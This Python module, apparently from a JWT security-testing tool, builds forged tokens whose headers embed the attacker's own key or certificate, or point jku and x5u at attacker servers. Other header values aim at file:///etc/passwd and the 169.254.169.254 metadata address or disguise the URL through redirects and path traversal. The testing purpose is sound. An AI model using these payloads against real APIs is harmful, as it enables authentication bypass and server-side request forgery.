"""Headers that bring their own key, or say where to fetch one: they would choose whom the API trusts (RFC 8725, section 3.10)."""

import hashlib
from collections.abc import Mapping
from functools import partial
from typing import Any, Final
from urllib.parse import urlsplit

from ..signing import SigningKey
from .compact import segment
from .recipe import Category, Recipes
from .world import World

KEY_REFERENCES: Final = Recipes(
    Category.KEY_REFERENCE, "RFC 7515, sections 4.1.2 to 4.1.8 and 10.3; RFC 8725, section 3.10"
)

_OWN: Final = "The attacker has signed it, and its header brings his own public key"
_FETCH: Final = "The attacker has signed it, and its header asks the API to fetch the key"


def _jwk_of(key: SigningKey, **changes: Any) -> dict[str, Any]:
    return {**key.private_key.as_dict(private=False), "use": "sig", "alg": key.alg, **changes}


def _embedded(world: World, key: str, *, omit_header: tuple[str, ...] = ()) -> str:
    own: SigningKey = getattr(world.attacker, key)
    jwk = _jwk_of(own, kid=world.header.get("kid"))
    return world.forged(own, header={"jwk": jwk}, omit_header=omit_header)


def _disguised(world: World) -> str:
    """The issuer's own JSON Web Key in the header, in which the modulus alone is the attacker's."""
    own = _jwk_of(world.attacker.rsa)
    jwk = {**world.public_key("RSA"), "n": own["n"], "e": own["e"]}
    return world.forged(world.attacker.rsa, header={"kid": jwk.get("kid"), "jwk": jwk})


def _symmetric(world: World) -> str:
    secret = b"0" * 32
    return world.with_hmac(secret, header={"jwk": {"kty": "oct", "k": segment(secret), "alg": "HS256"}})


def _pointing(world: World, header: Mapping[str, str]) -> str:
    urls = {name: _filled(world, url) for name, url in header.items()}
    return world.forged(world.attacker.rsa, header={"kid": "attacker", **urls})


def _filled(world: World, url: str) -> str:
    issuer = urlsplit(world.issuer)
    canary = urlsplit(world.canary)
    return url.format(
        canary=world.canary, canary_host=canary.netloc, issuer=world.issuer.rstrip("/"), host=issuer.netloc
    )


def _thumbprints(world: World) -> str:
    der = world.attacker.certificate_der()
    header: Mapping[str, str] = {
        "x5t": segment(hashlib.sha1(der, usedforsecurity=False).digest()),
        "x5t#S256": segment(hashlib.sha256(der).digest()),
    }
    return world.forged(world.attacker.rsa, header=header)


KEY_REFERENCES.add("jwk-of-the-attacker", f"{_OWN} under the issuer's kid.", partial(_embedded, key="rsa"))
KEY_REFERENCES.add(
    "jwk-of-the-attacker-without-kid", f"{_OWN} and no kid.", partial(_embedded, key="rsa", omit_header=("kid",))
)
KEY_REFERENCES.add("jwk-ec-of-the-attacker", f"{_OWN}, an EC key.", partial(_embedded, key="ec"))
KEY_REFERENCES.add("jwk-ed25519-of-the-attacker", f"{_OWN}, an Ed25519 key.", partial(_embedded, key="okp"))
KEY_REFERENCES.add("jwk-disguised-as-the-issuers", f"{_OWN} in the clothes of the issuer's.", _disguised)
KEY_REFERENCES.add("jwk-symmetric", "Its header brings the very secret that it is signed with.", _symmetric)
KEY_REFERENCES.add(
    "x5c-of-the-attacker",
    "The attacker has signed it, and its header brings his certificate, which nobody has issued.",
    lambda world: world.forged(world.attacker.rsa, header={"x5c": world.attacker.x5c()}),
)
KEY_REFERENCES.add(
    "x5t-of-the-attacker", "The attacker has signed it, and its header names his certificate by its hash.", _thumbprints
)
for _name, _words, _headers in (
    ("jku-elsewhere", " from a server of his.", {"jku": "{canary}"}),
    ("x5u-elsewhere", " from a server of his.", {"x5u": "{canary}"}),
    ("jku-of-a-file", " from a file of the API's own machine.", {"jku": "file:///etc/passwd"}),
    (
        "jku-of-the-cloud-metadata",
        " from an address that only the API's own machine may ask.",
        {"jku": "http://169.254.169.254/latest/meta-data/"},
    ),
    (
        "jku-with-userinfo",
        " from a server of his that begins like the issuer.",
        {"jku": "http://{host}@{canary_host}/"},
    ),
    (
        "jku-with-a-fragment",
        " from a server of his, with the issuer behind a number sign.",
        {"jku": "{canary}#{issuer}"},
    ),
    ("jku-with-a-query", " from a server of his, with the issuer in the query.", {"jku": "{canary}?{issuer}"}),
    (
        "jku-through-a-redirect",
        " through a redirect of the issuer's own host.",
        {"jku": "{issuer}/redirect?to={canary}"},
    ),
    (
        "jku-by-path-traversal",
        " from another folder of the issuer's host.",
        {"jku": "{issuer}/.well-known/../uploads/keys.json"},
    ),
    ("jku-and-x5u-elsewhere", " from two servers of his.", {"jku": "{canary}", "x5u": "{canary}"}),
):
    KEY_REFERENCES.add(_name, _FETCH + _words, partial(_pointing, header=_headers))
